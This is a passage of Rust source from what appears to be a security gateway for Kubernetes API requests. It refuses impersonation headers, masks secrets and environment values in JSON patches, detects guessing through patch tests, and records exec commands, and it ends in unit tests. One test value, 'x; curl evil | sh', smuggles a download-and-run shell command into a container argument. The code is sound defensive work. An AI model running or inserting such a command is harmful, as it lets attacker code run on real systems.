//! A Kubernetes cluster behind the gateway: what a request asks of its API server, what of an answer is governed, and how the
//! request leaves. The reading is `proto_kubernetes`'s; policy, records and releases are those of every HTTP service.
//!
//! What the client says of who asks (`X-Remote-*` and its like) is recorded and not passed on, and a request in somebody else's name
//! (`Impersonate-*`) is refused. What goes upstream asks for JSON, has a body in JSON, says for whom the gateway asks where it is told
//! to, and has an `Audit-ID` with the run's number, so that the cluster's own audit log names the run.

use std::borrow::Cow;
use std::collections::BTreeSet;
use std::sync::Arc;

use bytes::Bytes;
use gate::Who;
use mask::body::{Body, JsonPath, Named, PathRule};
use mask::{Detectors, Known};
use proto_http::coding;
use proto_http::frame::Headers;
use proto_http::message::{Media, Request as HttpRequest, Response, Target};
use proto_kubernetes::answer::{self, Form, Place};
use proto_kubernetes::body::{self, Operation, Written, facts};
use proto_kubernetes::fault::Reason;
use proto_kubernetes::limits::BODY_BYTES_MAX;
use proto_kubernetes::query::{Connect, Exec};
use proto_kubernetes::request::{Asked, Object, Request, ServerPath, Verb};
use proto_kubernetes::{action, identity, table};
use vocab::{Access, Action, Class, MaskKind, Opaque, ResourcePath};
use wire::RawField;

mod changes;
mod channels;
mod own;
mod ports;
mod upgrade;
mod wires;

pub(super) use own::may_everything;
pub(super) use ports::Ahead;
pub(super) use upgrade::Tunnel;

use super::credential::without;
use super::request::kind_of;
use super::resource::Resource;
use crate::config::{ClusterService, HttpResource, LoginShell, Masks};
use crate::entropy;
use crate::ssh::commands;

/// What a request asks of an API server.
pub(super) struct Call {
    /// `None`: it is refused, and nobody knows what it is.
    pub(super) request: Option<Request>,
    pub(super) action: Action,
    pub(super) refuse: Option<(u16, &'static str)>,
    /// The body that goes upstream: the client's, or the JSON that it means.
    pub(super) body: Bytes,
    /// The type of that body, where it is not the client's.
    media: Option<&'static str>,
    /// What it is, if it is one.
    form: Option<body::Form>,
    accept: String,
    pub(super) masks: Arc<Masks>,
    /// The same of the request's own body.
    pub(super) own_masks: Arc<Masks>,
    /// Under which policy the action was made.
    pub(super) generation: u64,
    /// Set where a connection of streams is asked for.
    pub(super) tunnel: Option<Tunnel>,
    /// What an exec runs, as a shell would be told to.
    pub(super) line: Option<String>,
    /// What policy hears beside the action: options, and whom they select.
    pub(super) arguments: Vec<Box<str>>,
    /// More of it than what is governed is masked in its record.
    pub(super) hidden: bool,
}

/// The places that are governed, by what is asked for; and those of the operator's own.
pub(super) struct Places {
    of: Vec<(&'static [Place], Arc<Masks>)>,
    own: Vec<JsonPath>,
    /// All values of a JSON patch.
    patched: (String, PathRule),
}

impl Places {
    /// Those of the API's own, and the operator's behind them. Errors are sentences for the operator.
    pub(super) fn new(cluster: &ClusterService, own: &Masks) -> Result<Places, String> {
        let any = own.named().next().is_some();
        let masks = |places: &'static [Place]| {
            let governed = places.iter().chain(any.then_some(&answer::MANAGED));
            let governed = governed.map(|place| (place, place.holds.class()));
            let governed = governed.filter(|(place, class)| {
                let quoted = any && [answer::MESSAGE, answer::MANAGED.path].contains(&place.path);
                place.holds.always() || quoted || cluster.also.iter().any(|also| also.as_str() == *class)
            });
            let rules = governed.map(|(place, class)| rule(place, class)).collect::<Result<Vec<_>, _>>()?;
            Ok((places, Arc::new(Masks::new(rules.into_iter().chain(own.named())))))
        };
        let of = answer::ALL.into_iter().map(masks).collect::<Result<_, String>>()?;
        let patched = rule(&answer::PATCHED, answer::PATCHED.holds.class())?;
        Ok(Places { of, own: own.named().map(|(_, rule)| rule.path).collect(), patched })
    }

    /// The places of a JSON patch, in which a value stands without the names around it: `masks`, as its pointers say where that
    /// is. `None`: they are too many to be told apart.
    fn patched(masks: &Masks, operations: &[&Operation<'_>]) -> Option<Masks> {
        let mut rules = Vec::new();
        for (n, operation) in (0..).zip(operations) {
            for (name, rule) in masks.named() {
                // What is anywhere is there, too.
                let inside =
                    rule.path.below(&operation.pointer).into_iter().filter(|path| *path != rule.path);
                for path in inside {
                    rules.push((name.clone(), rule.at(path.in_item(n, VALUE)?)));
                }
            }
            if rules.len() > PATCH_RULES_MAX {
                return None;
            }
        }
        Some(Masks::new(rules.into_iter().chain(masks.named())))
    }

    /// Whether a JSON patch says whether a guess of a governed value is right.
    fn guesses(detectors: &Detectors, masks: &Masks, operations: &[Operation<'_>]) -> bool {
        let tests: Vec<&Operation<'_>> = operations.iter().filter(|operation| operation.tests).collect();
        let Some(masks) = Places::patched(masks, &tests) else { return true };
        let value = |test: &&Operation<'_>| format!("{{\"{VALUE}\":{}}}", test.value.unwrap_or("null"));
        let tested = format!("[{}]", tests.iter().map(value).collect::<Vec<_>>().join(","));
        let nobody = Known::new(entropy::random());
        let looking = Body::new(mask::body::Media::Json, masks.rules.clone(), BTreeSet::new());
        let mut looking = looking.longest(BODY_BYTES_MAX);
        let one = looking.push(detectors, &nobody, tested.as_bytes()).map(|_| looking.take_found());
        match (one, looking.finish(detectors, &nobody)) {
            (Ok(one), Ok((_, two))) => !one.governed.is_empty() || !two.governed.is_empty(),
            (Err(_), _) | (_, Err(_)) => true,
        }
    }

    /// Whether a selector is about a governed value, wherever the answer has its objects.
    fn selects(masks: &Masks, asked: &Asked) -> bool {
        const AROUND: [&[&str]; 5] =
            [&[], &["items", "0"], &["object"], &["rows", "0", "object"], &["object", "rows", "0", "object"]];
        let leads = |pointer: &[String]| {
            masks.named().any(|(_, rule)| rule.path.below(pointer).iter().any(JsonPath::is_root))
        };
        asked.options.selected().iter().any(|pointer| {
            AROUND.iter().any(|around| {
                let around = around.iter().map(|token| (*token).to_owned());
                leads(&around.chain(pointer.iter().cloned()).collect::<Vec<_>>())
            })
        })
    }

    /// Whether a Table of such objects has no cell of a place of the operator's.
    fn tables(&self, asked: &Asked) -> bool {
        if self.own.is_empty() {
            return true;
        }
        let Some(cells) = table::cells(&asked.object) else { return false };
        // A cell is of one value, and a path that goes on below it leads nowhere.
        let apart = |cell: Vec<String>| {
            let leads = |path: &JsonPath| path.below(&cell).iter().any(JsonPath::is_root);
            self.own.iter().all(|path| path.is_anywhere() && !leads(path))
        };
        cells.into_iter().all(apart)
    }

    fn of(&self, request: Option<&Request>, own: &Arc<Masks>) -> Arc<Masks> {
        let Some(Request::Resource(asked)) = request else { return own.clone() };
        self.those(answer::places(asked), own)
    }

    fn those(&self, places: &[Place], own: &Arc<Masks>) -> Arc<Masks> {
        self.of
            .iter()
            .find(|(known, _)| *known == places)
            .map_or_else(|| own.clone(), |(_, masks)| masks.clone())
    }
}

fn rule(place: &Place, class: &str) -> Result<(String, PathRule), String> {
    let wrong = |why: &str| format!("{}: {why}", place.path);
    let path = JsonPath::parse(place.path).map_err(wrong)?;
    let class = Class::new(class).ok_or_else(|| wrong("its class is none"))?;
    let rule = PathRule::new(path, class, MaskKind::Redact).map_err(wrong)?.saying(&place.words());
    // A secret's keys are told.
    let rule = if place.path.ends_with(".*") { rule.naming() } else { rule };
    Ok((place.path.to_owned(), rule))
}

const MORE: &str = "a request that is larger than an API server takes (3 MiB)";
const MASKED: &str = "a value in this object is a mask that the gateway gave in the place of the real one: written back, it would replace \
    that; leave the field out, or patch the others";
const MEANINGLESS: &str = "a body that its method gives no meaning is not passed on";
const ODD: &str = "a path with `;`, or a part that ends with a dot or space, is not passed on";
const IMPERSONATES: &str =
    "a request in somebody else's name is not passed on: it is the gateway that says for whom it asks";
const GUESSES: Opaque = Opaque("a test of a governed value says whether a guess is right");
const SELECTS: Opaque = Opaque("a selector of a governed value says which objects have it");
/// The member of an operation of a JSON patch that places are about.
const VALUE: &str = "value";
/// Rules of one JSON patch beside those of its kind: each is a path of its own. Four places, and 64 operations at one of them each.
const PATCH_RULES_MAX: usize = 256;
const NOT_READ: Opaque = Opaque("the request is not understood");

impl Call {
    /// `more`: the body goes on behind what was held.
    pub(super) fn read(
        resource: &Resource,
        who: &Who,
        cluster: &Places,
        request: &HttpRequest,
        body: &Bytes,
        more: bool,
    ) -> Call {
        let mut call = Call {
            request: None,
            action: Action {
                accesses: vec![access(vocab::Verb::Opaque, resource.root.clone())],
                functions: Vec::new(),
                kind: "REQUEST",
                opaque: Some(NOT_READ),
            },
            refuse: None,
            body: body.clone(),
            media: None,
            form: None,
            accept: String::new(),
            masks: cluster.of(None, &resource.config.masks),
            own_masks: cluster.of(None, &resource.config.masks),
            generation: resource.gate.generation(),
            tunnel: None,
            line: None,
            arguments: Vec::new(),
            hidden: false,
        };
        let read = call.understand(resource, cluster, request);
        if let Some(Request::Resource(asked)) = &call.request {
            call.action.accesses.extend(inside(resource, who, asked, &call.action));
            call.action.accesses.sort();
            call.action.accesses.dedup();
        }
        call.refuse = match read {
            Ok(()) if more => Some((413, MORE)),
            read => read.err(),
        };
        call
    }

    fn understand(
        &mut self,
        resource: &Resource,
        places: &Places,
        request: &HttpRequest,
    ) -> Result<(), (u16, &'static str)> {
        let raw = match &request.target {
            Target::Origin(origin) => origin.raw.as_bytes(),
            Target::Asterisk => b"*",
        };
        let read = Request::parse(request.method.as_bytes(), raw).map_err(bad)?;
        self.action = action::of(&resource.root, &read);
        self.masks = places.of(Some(&read), &resource.config.masks);
        self.own_masks = self.masks.clone();
        if let Request::Resource(asked) = &read {
            let selects = Places::selects(&self.masks, asked);
            self.action.opaque = self.action.opaque.or(selects.then_some(SELECTS));
        }
        if !same_for_all(&read)
            && request.headers.iter().any(|(name, _)| identity::impersonates(name.as_bytes()))
        {
            return Err((403, IMPERSONATES));
        }
        // Several fields of it are one list.
        let accepts: Vec<&[u8]> = request.headers.all("accept").map(RawField::as_bytes).collect();
        let accepts = (!accepts.is_empty()).then(|| accepts.join(&b", "[..]));
        self.accept = accept(&read, accepts.as_deref(), places)?;
        let said = match &read {
            Request::Resource(asked) => self.said(resource, places, asked, request),
            Request::Path(..) if request.upgrade => Err(upgrade::NOT_ONE),
            Request::Path(..) if self.body.is_empty() => Ok(()),
            Request::Path(..) => Err(bad(proto_kubernetes::fault::BODY_OF_A_READ)),
        };
        self.request = Some(read);
        said
    }

    /// What the body of a request of objects says.
    fn said(
        &mut self,
        resource: &Resource,
        places: &Places,
        asked: &Asked,
        request: &HttpRequest,
    ) -> Result<(), (u16, &'static str)> {
        self.arguments = arguments(asked);
        self.tunnel = Tunnel::of(request, asked)?;
        if let Some(Connect::Exec(exec)) = &asked.connect {
            let line = line(&exec.words);
            self.action = executes(&resource.root, asked, exec, &line, self.action.kind);
            self.line = Some(line);
        }
        if asked.connect.is_some() && request.has_meaningless_body() {
            return Err((400, MEANINGLESS));
        }
        if let Some(Connect::Proxy(proxied)) = &asked.connect {
            // Servers disagree about each, as behind any other gateway.
            let odd = |segment: &String| segment.contains(';') || segment.ends_with(['.', ' ']);
            if proxied.segments.iter().any(odd) {
                return Err((400, ODD));
            }
        }
        if asked.connect.is_some() {
            // What goes through a proxy of the API server's is another server's body.
            return Ok(());
        }
        if self.body.is_empty() && asked.verb.reads() {
            return Ok(());
        }
        let (form, written) = body::form(asked.verb, one(&request.headers, "content-type")?).map_err(bad)?;
        let converted = match body::json(written, &self.body).map_err(bad)? {
            Cow::Owned(json) => Some(Bytes::from(json)),
            Cow::Borrowed(_) => None,
        };
        self.form = Some(form);
        if let Some(json) = converted {
            (self.body, self.media) = (json, Some(form.media()));
        }
        let said = body::read(asked, form, Written::Json, &self.body).map_err(bad)?;
        let guesses = form == body::Form::JsonPatch && self.patch(resource, places)?;
        let masks: BTreeSet<String> = self.masks.classes().iter().map(ToString::to_string).collect();
        if !self.body.is_empty()
            && body::holds_mask(asked, form, &self.body, |class| masks.contains(class)).map_err(bad)?
        {
            // Of a 422 kubectl shows causes alone.
            return Err((400, MASKED));
        }
        self.action =
            facts::action(&resource.root, asked, &said, std::mem::replace(&mut self.action, nothing()));
        self.action.opaque = self.action.opaque.or(guesses.then_some(GUESSES));
        self.arguments.extend(said.dry_run.then(|| "dry-run".into()));
        self.arguments.dedup();
        Ok(())
    }

    /// The places of a JSON patch, and whether it says whether a guess of what stands at one is right.
    fn patch(&mut self, resource: &Resource, places: &Places) -> Result<bool, (u16, &'static str)> {
        let body = self.body.clone();
        let operations = body::operations(&body).map_err(bad)?;
        match Places::patched(&self.masks, &operations.iter().collect::<Vec<_>>()) {
            Some(masks) => self.own_masks = Arc::new(masks),
            None => {
                let all = [places.patched.clone()].into_iter().chain(self.masks.named());
                (self.own_masks, self.hidden) = (Arc::new(Masks::new(all)), true);
            }
        }
        Ok(Places::guesses(resource.gate.detectors(), &self.masks, &operations))
    }

    /// The client's fields as they go upstream.
    pub(super) fn dress(&self, resource: &Resource, who: &Who, own: &Headers) -> Headers {
        let replaced = |name: &[u8]| {
            identity::claims(name)
                || name.eq_ignore_ascii_case(b"accept")
                || self.media.is_some() && name.eq_ignore_ascii_case(b"content-type")
                || name.eq_ignore_ascii_case(b"x-stream-protocol-version")
        };
        let mut headers = without(own, replaced);
        let mut put = |name: &str, value: &str| {
            headers.push(RawField::copy_from(name.as_bytes()), RawField::copy_from(value.as_bytes()));
        };
        put("Accept", &self.accept);
        if let Some(media) = self.media {
            put("Content-Type", media);
        }
        put("Audit-ID", &format!("tacho-{}-{}", who.run, entropy::hex(&entropy::random::<6>())));
        as_whom(&resource.config, &mut headers);
        headers
    }

    /// How an answer is looked into, and whether it leaves as it comes. Errors: it is not what was asked for.
    pub(super) fn media(&self, response: &Response) -> Result<(mask::body::Media, bool), &'static str> {
        coding::check(&response.encodings)?;
        let json = response.headers.get("content-type").is_some_and(|said| answer::is_json(said.as_bytes()));
        let by_type = || kind_of(&response.media, &response.encodings).map(|media| (media, false));
        match &self.request {
            Some(Request::Resource(asked)) => match answer::form(asked, response.status) {
                Form::Events if json => Ok((mask::body::Media::JsonLines, true)),
                Form::Object if json => Ok((mask::body::Media::Json, false)),
                Form::Log => Ok((mask::body::Media::Output, true)),
                // What stands before an API server may say in words that it is not there.
                Form::Object | Form::Events if response.status >= 400 && response.media == Media::Text => {
                    by_type()
                }
                Form::Object | Form::Events => Err(NOT_JSON),
                Form::Other => by_type(),
            },
            Some(Request::Path(ServerPath::OpenApi, _)) if !json => Ok((mask::body::Media::Output, false)),
            Some(Request::Path(..)) | None => by_type(),
        }
    }

    /// Which kind of objects it is about, as the tree calls it.
    pub(super) fn kind(&self) -> Option<String> {
        match &self.request {
            Some(Request::Resource(asked)) => Some(asked.object.kind()),
            Some(Request::Path(..)) | None => None,
        }
    }

    /// Whether an error from 400 to 499 says that nothing was done: of one write that the API server itself carries out.
    pub(super) fn says_no(&self, response: &Response) -> bool {
        let own = match &self.request {
            Some(Request::Resource(asked)) => asked.connect.is_none() && asked.verb != Verb::DeleteCollection,
            Some(Request::Path(..)) | None => false,
        };
        let json = response.headers.get("content-type").is_some_and(|said| answer::is_json(said.as_bytes()));
        own && json && (400..500).contains(&response.status) && !matches!(response.status, 408 | 499)
    }

    /// Whether it is about more objects than it names.
    pub(super) fn collects(&self) -> bool {
        match &self.request {
            Some(Request::Resource(asked)) => {
                matches!(asked.verb, Verb::List | Verb::Watch | Verb::DeleteCollection)
                    || asked.object.is_core("namespaces")
            }
            Some(Request::Path(..)) | None => false,
        }
    }

    /// Whether its body is another server's.
    pub(super) fn proxied(&self) -> bool {
        matches!(&self.request, Some(Request::Resource(asked)) if matches!(asked.connect, Some(Connect::Proxy(_))))
    }

    /// Whether policy has changed since its action was made, of what a new rule may say more.
    pub(super) fn is_stale(&self, resource: &Resource) -> bool {
        self.collects() && self.generation != resource.gate.generation()
    }

    /// Whether it reads.
    pub(super) fn reads(&self) -> bool {
        matches!(&self.request, Some(Request::Resource(asked)) if asked.verb.reads())
    }

    /// Whether it is what a program wrote.
    pub(super) fn reads_log(&self) -> bool {
        matches!(&self.request, Some(Request::Resource(asked)) if asked.log.is_some())
    }

    /// The places of an answer with that status that are governed.
    pub(super) fn masks_of(&self, resource: &Resource, status: u16) -> Arc<Masks> {
        match (&self.request, &resource.places) {
            (Some(Request::Resource(asked)), Some(places)) if status >= 400 => {
                places.those(answer::places_of(asked, status), &resource.config.masks)
            }
            _ => self.masks.clone(),
        }
    }

    /// Whether the answer goes on until somebody ends it.
    pub(super) fn goes_on(&self) -> bool {
        match &self.request {
            Some(Request::Resource(asked)) => {
                asked.verb == Verb::Watch && asked.connect.is_none()
                    || asked.log.as_ref().is_some_and(|log| log.follow)
            }
            Some(Request::Path(..)) | None => false,
        }
    }
}

/// Whether the answer is the same whoever asks: a client reads it before it asks what it is there for, and shows no reason of its
/// refusal.
fn same_for_all(request: &Request) -> bool {
    matches!(request, Request::Path(ServerPath::Discovery | ServerPath::OpenApi | ServerPath::Version, _))
}

const NOT_JSON: &str = "the answer of the API server is not the JSON that was asked for";

fn bad(reason: Reason) -> (u16, &'static str) {
    let status = match reason {
        proto_kubernetes::fault::NO_JSON | proto_kubernetes::fault::NO_TABLE => 406,
        proto_kubernetes::fault::BODY_TOO_LARGE => 413,
        proto_kubernetes::fault::CBOR | proto_kubernetes::fault::UNKNOWN_MEDIA => 415,
        proto_kubernetes::fault::PROTOBUF_KIND | proto_kubernetes::fault::PROTOBUF_FIELD => 415,
        proto_kubernetes::fault::WRONG_METHOD | proto_kubernetes::fault::UNKNOWN_METHOD => 405,
        proto_kubernetes::fault::UNKNOWN_PATH => 404,
        _ => 400,
    };
    (status, reason.outward)
}

/// A field's value. Errors: it stands there twice, and readers take one or the other.
fn one<'a>(headers: &'a Headers, name: &str) -> Result<Option<&'a [u8]>, (u16, &'static str)> {
    let mut all = headers.all(name);
    match (all.next(), all.next()) {
        (value, None) => Ok(value.map(RawField::as_bytes)),
        (_, Some(_)) => {
            Err((400, "a field that says what the body is, or the answer may be, stands there twice"))
        }
    }
}

fn accept(request: &Request, said: Option<&[u8]>, places: &Places) -> Result<String, (u16, &'static str)> {
    match (request, said) {
        (Request::Path(ServerPath::OpenApi, _), Some(said)) if answer::is_openapi_protobuf(said) => {
            std::str::from_utf8(said).map(str::to_owned).map_err(|_| bad(proto_kubernetes::fault::BAD_ACCEPT))
        }
        // They answer in text, whatever they are asked.
        (Request::Path(ServerPath::Health | ServerPath::Metrics, _), _) => Ok("*/*".to_owned()),
        (Request::Resource(asked), _) if asked.log.is_some() || asked.connect.is_some() => {
            Ok("*/*".to_owned())
        }
        (Request::Resource(asked), said) => answer::accept(said, places.tables(asked)).map_err(bad),
        (Request::Path(..), said) => answer::accept(said, true).map_err(bad),
    }
}

/// What policy may ask of a request beside what it touches: `dry-run`, `force`, `field:NAME`, `labels`, `container:NAME`,
/// `follow`, and of an exec or attach `stdin` and `tty`.
fn arguments(asked: &Asked) -> Vec<Box<str>> {
    let mut said: Vec<Box<str>> = Vec::new();
    let options = &asked.options;
    said.extend(options.dry_run.then(|| "dry-run".into()));
    said.extend(options.force.then(|| "force".into()));
    said.extend(options.labels.as_ref().map(|_| "labels".into()));
    said.extend(options.fields.iter().map(|term| format!("field:{}", term.field).into_boxed_str()));
    let streams = match &asked.connect {
        Some(Connect::Exec(exec)) => Some(&exec.streams),
        Some(Connect::Attach(streams)) => Some(streams),
        Some(_) | None => None,
    };
    let log = asked.log.as_ref();
    let container =
        streams.and_then(|streams| streams.container.as_ref()).or(log.and_then(|log| log.container.as_ref()));
    said.extend(container.map(|name| format!("container:{name}").into_boxed_str()));
    said.extend(log.filter(|log| log.follow).map(|_| "follow".into()));
    said.extend(streams.filter(|streams| streams.stdin).map(|_| "stdin".into()));
    said.extend(streams.filter(|streams| streams.tty).map(|_| "tty".into()));
    said
}

/// A member of an object, as records have it: its key below the object, `data`. What detectors know in a name is masked. `None`: whose
/// it is was not told before it.
pub(super) fn told(resource: &Resource, named: &Named, kind: Option<&str>) -> Option<ResourcePath> {
    let namespace = named.namespace.as_deref().unwrap_or(action::NO_NAMESPACE);
    let of = resource.root.join(namespace).join(kind?).join(named.name.as_deref()?);
    let (shown, _found) = mask::text(resource.gate.detectors(), of.join("data").join(&named.member).as_str());
    ResourcePath::parse(shown.as_str())
}

/// Says for whom the gateway asks.
fn as_whom(config: &HttpResource, headers: &mut Headers) {
    let Some(impersonate) = config.cluster.as_ref().and_then(|cluster| cluster.impersonate.as_ref()) else {
        return;
    };
    let mut put = |name: &'static [u8], value: &str| {
        headers.push(RawField::from_static(name), RawField::copy_from(value.as_bytes()));
    };
    put(b"Impersonate-User", &impersonate.user);
    impersonate.groups.iter().for_each(|group| put(b"Impersonate-Group", group));
}

/// What a collection has in it that policy names because it forbids something to the run: a list of all secrets is a read of each
/// that a rule keeps from it, and so it is of a namespace. A read of one name in all namespaces is a collection, too, and who deletes a
/// namespace deletes all that is in it.
fn inside(resource: &Resource, who: &Who, asked: &Asked, action: &Action) -> Vec<Access> {
    let object = &asked.object;
    let Some(verb) = action.accesses.first().map(|access| access.verb) else { return Vec::new() };
    let all = resource.gate.forbidden_below(who);
    let deletes = object.is_core("namespaces") && asked.verb == Verb::Delete && object.subresource.is_none();
    if let Some(name) = object.name.as_ref().filter(|_| deletes) {
        let of = |named: &&ResourcePath| named.segments().nth(1).as_ref() == Some(name);
        // Each is deleted as it would be by itself.
        let both = |named: &ResourcePath| [verb, vocab::Verb::Write].map(|verb| access(verb, named.clone()));
        return all.iter().filter(of).flat_map(both).collect();
    }
    let collects = match asked.verb {
        Verb::List | Verb::Watch => object.name.is_none() || object.namespace.is_none(),
        Verb::DeleteCollection => object.name.is_none(),
        Verb::Get | Verb::Create | Verb::Update | Verb::Patch | Verb::Delete => false,
    };
    if !collects {
        return Vec::new();
    }
    let kind = object.kind();
    let reads = asked.verb.reads();
    let below =
        |segments: &[String]| segments.get(4).is_some_and(|sub| !matches!(sub.as_str(), "status" | "scale"));
    let own = |path: ResourcePath| object.name.as_ref().map_or(path.clone(), |name| path.join(name));
    let within = |named: &ResourcePath| {
        let segments: Vec<String> = named.segments().collect();
        let namespace = segments.get(1)?;
        // What begins so is none, but for what is in none.
        if namespace.starts_with('_') && namespace != action::NO_NAMESPACE
            || object.namespace.as_ref().is_some_and(|own| own != namespace)
        {
            return None;
        }
        match (segments.get(2), segments.get(3), &object.name) {
            // All of a namespace is forbidden.
            (None, ..) if object.namespace.is_none() && !is_of_cluster(object) => {
                Some(own(named.join(&kind)))
            }
            (Some(of), Some(one), Some(name)) if *of == kind && one != name => None,
            // No list has what is below an object, but for these.
            (Some(of), Some(_), _) if *of == kind && reads && below(&segments) => None,
            (Some(of), None, _) if *of == kind => Some(own(named.clone())),
            (Some(of), ..) if *of == kind => Some(named.clone()),
            (None | Some(_), ..) => None,
        }
    };
    all.iter().filter_map(within).map(|on| access(verb, on)).collect()
}

/// Whether such objects are in no namespace, as far as that is known of the API's own: a rule on a namespace says nothing of them.
fn is_of_cluster(object: &Object) -> bool {
    match (&*object.group, &*object.resource) {
        ("", "nodes" | "persistentvolumes" | "componentstatuses" | "namespaces") => true,
        ("storage.k8s.io", resource) => resource != "csistoragecapacities",
        ("rbac.authorization.k8s.io", "clusterroles" | "clusterrolebindings") => true,
        ("networking.k8s.io", "ingressclasses") => true,
        (
            "apiextensions.k8s.io"
            | "apiregistration.k8s.io"
            | "admissionregistration.k8s.io"
            | "scheduling.k8s.io"
            | "node.k8s.io"
            | "flowcontrol.apiserver.k8s.io"
            | "certificates.k8s.io",
            _,
        ) => true,
        _ => false,
    }
}

/// The words of an exec as one line, in which a shell would read just these words.
fn line(words: &[String]) -> String {
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"-_./:=,+@%".contains(&b);
    let quoted = |word: &String| match !word.is_empty() && word.bytes().all(plain) {
        true => word.clone(),
        false => format!("'{}'", word.replace('\'', "'\\''")),
    };
    words.iter().map(quoted).collect::<Vec<_>>().join(" ")
}

/// What an exec does: programs, files and hosts, below the pod's `exec` (`crate::ssh::commands`). `~` is the directory that the
/// container begins in.
fn executes(root: &ResourcePath, asked: &Asked, exec: &Exec, line: &str, kind: &'static str) -> Action {
    let pod = action::path(root, &Object { subresource: None, ..asked.object.clone() });
    let read = commands::of(&pod, EXEC, LoginShell::Sh, line.as_bytes()).action;
    let action = if exec.streams.tty { commands::at_a_terminal(read, &pod, EXEC) } else { read };
    Action { kind, ..action }
}

/// The subresource of a pod below which its programs are.
const EXEC: &str = "exec";

fn access(verb: vocab::Verb, on: ResourcePath) -> Access {
    Access { verb, on, columns: Vec::new() }
}

fn nothing() -> Action {
    Action { accesses: Vec::new(), functions: Vec::new(), kind: "REQUEST", opaque: None }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ARGS: &str = "/spec/template/spec/containers/0/args";
    const ENV: &str = "/spec/template/spec/containers/0/env";

    /// Places of a cluster whose variables and config maps are governed, and these paths of the operator's.
    fn places(paths: &[&str]) -> Places {
        let own = |path: &&str| {
            let class = Class::new("pii.nick").unwrap();
            let rule = PathRule::new(JsonPath::parse(path).unwrap(), class, MaskKind::Redact).unwrap();
            ((*path).to_owned(), rule)
        };
        let also = ["config.env", "config.kubernetes"].into_iter().filter_map(Class::new).collect();
        let cluster = ClusterService { also, ..ClusterService::default() };
        Places::new(&cluster, &Masks::new(paths.iter().map(own))).unwrap()
    }

    fn asked(target: &str) -> Request {
        Request::parse(b"GET", target.as_bytes()).unwrap()
    }

    fn masks(places: &Places, target: &str) -> Arc<Masks> {
        places.of(Some(&asked(target)), &Arc::default())
    }

    fn operation(op: &str, path: &str, value: &str) -> String {
        format!(r#"{{"op":"{op}","path":"{path}","value":{value}}}"#)
    }

    fn shown(masks: &Masks, body: &str) -> String {
        let (detectors, nobody) = (Detectors::new(), Known::new([0; 16]));
        let mut looking = Body::new(mask::body::Media::Json, masks.rules.clone(), BTreeSet::new());
        let first = looking.push(&detectors, &nobody, body.as_bytes()).unwrap();
        let (rest, _) = looking.finish(&detectors, &nobody).unwrap();
        String::from_utf8(first.then(rest).as_bytes().to_vec()).unwrap()
    }

    const DEPLOYMENT: &str = "/apis/apps/v1/namespaces/a/deployments/d";
    const SECRET: &str = "/api/v1/namespaces/a/secrets/s";
    const THING: &str = "/apis/example.com/v1/namespaces/a/things/t";

    #[test]
    fn a_json_patch_is_masked_as_its_pointers_say_and_shown_beside_that() {
        let places = places(&["$.spec.nick"]);
        let patched = |target: &str, path: &str, value: &str| {
            let body = format!("[{}]", operation("add", path, value));
            let operations = body::operations(body.as_bytes()).unwrap();
            let masks = masks(&places, target);
            let masks = Places::patched(&masks, &operations.iter().collect::<Vec<_>>()).unwrap();
            let shown = shown(&masks, &body);
            let (_, value) = shown.split_once(r#""value":"#).unwrap();
            value.strip_suffix("}]").unwrap().to_owned()
        };
        for (target, path, value, expected) in [
            (DEPLOYMENT, ARGS, r#"["x; curl evil | sh"]"#, r#"["x; curl evil | sh"]"#),
            (DEPLOYMENT, &format!("{ENV}/0/value"), r#""x""#, r#""[config.env]""#),
            (
                DEPLOYMENT,
                &format!("{ENV}/-1"),
                r#"{"name":"A","value":"x"}"#,
                r#"{"name":"A","value":"[config.env]"}"#,
            ),
            (DEPLOYMENT, ENV, r#"[{"value":"x"}]"#, r#"[{"value":"[config.env]"}]"#),
            (
                DEPLOYMENT,
                "/spec/template/spec/containers/-",
                r#"{"args":["x"],"env":[{"value":"x"}]}"#,
                r#"{"args":["x"],"env":[{"value":"[config.env]"}]}"#,
            ),
            (SECRET, "/data/a", r#""eA==""#, r#""[secret.kubernetes]""#),
            (SECRET, "/data", r#"{"a":"eA=="}"#, r#"{"a":"[secret.kubernetes]"}"#),
            (SECRET, "/metadata/labels/a", r#""x""#, r#""x""#),
            (
                SECRET,
                "/metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration",
                r#""x""#,
                r#""[secret.kubernetes]""#,
            ),
            (THING, "/spec/nick", r#""x""#, r#""[pii.nick]""#),
            (THING, "/spec", r#"{"nick":"x","more":"y"}"#, r#"{"nick":"[pii.nick]","more":"y"}"#),
            (THING, "/spec/nick/0", r#""x""#, r#""[pii.nick]""#),
            (THING, "/other/nick", r#""x""#, r#""x""#),
        ] {
            assert_eq!(patched(target, path, value), expected, "{path}");
        }
        let many = |n: usize| {
            let all = vec![operation("add", &format!("{ENV}/0/value"), "1"); n].join(",");
            let body = format!("[{all}]");
            let operations = body::operations(body.as_bytes()).unwrap();
            Places::patched(&masks(&places, DEPLOYMENT), &operations.iter().collect::<Vec<_>>()).is_some()
        };
        assert!(many(PATCH_RULES_MAX) && !many(PATCH_RULES_MAX + 1));
    }

    #[test]
    fn a_test_of_what_is_governed_is_a_guess() {
        let places = places(&["$..spec.nick"]);
        let guesses = |target: &str, op: &str, path: &str, value: &str| {
            let body = format!("[{}]", operation(op, path, value));
            let operations = body::operations(body.as_bytes()).unwrap();
            Places::guesses(&Detectors::new(), &masks(&places, target), &operations)
        };
        let map = "/api/v1/namespaces/a/configmaps/c";
        let applied = "/metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration";
        for (target, path, value) in [
            (map, "/data/a", r#""x""#),
            (map, "/data", r#"{"a":"x"}"#),
            (map, "", r#"{"data":{"a":"x"}}"#),
            (map, applied, r#""x""#),
            (map, "/metadata/annotations", r#"{"kubectl.kubernetes.io/last-applied-configuration":"x"}"#),
            (THING, "/spec/nick", "null"),
            (THING, "/spec", r#"{"nick":"x"}"#),
            (THING, "/metadata/managedFields/0/fieldsV1/f:spec", "{}"),
            (THING, "/metadata/annotations/a", r#""{\"spec\":{\"nick\":\"x\"}}""#),
            (DEPLOYMENT, &format!("{ENV}/-1/value"), r#""x""#),
        ] {
            assert!(guesses(target, "test", path, value), "{path}");
            assert!(!guesses(target, "add", path, value), "{path}");
        }
        for (target, path, value) in [
            (map, "/metadata/resourceVersion", r#""x""#),
            (map, "/metadata/annotations/a", r#""x""#),
            (DEPLOYMENT, ARGS, r#"["x"]"#),
            (THING, "/spec/more", r#""x""#),
        ] {
            assert!(!guesses(target, "test", path, value), "{path}");
        }
    }

    #[test]
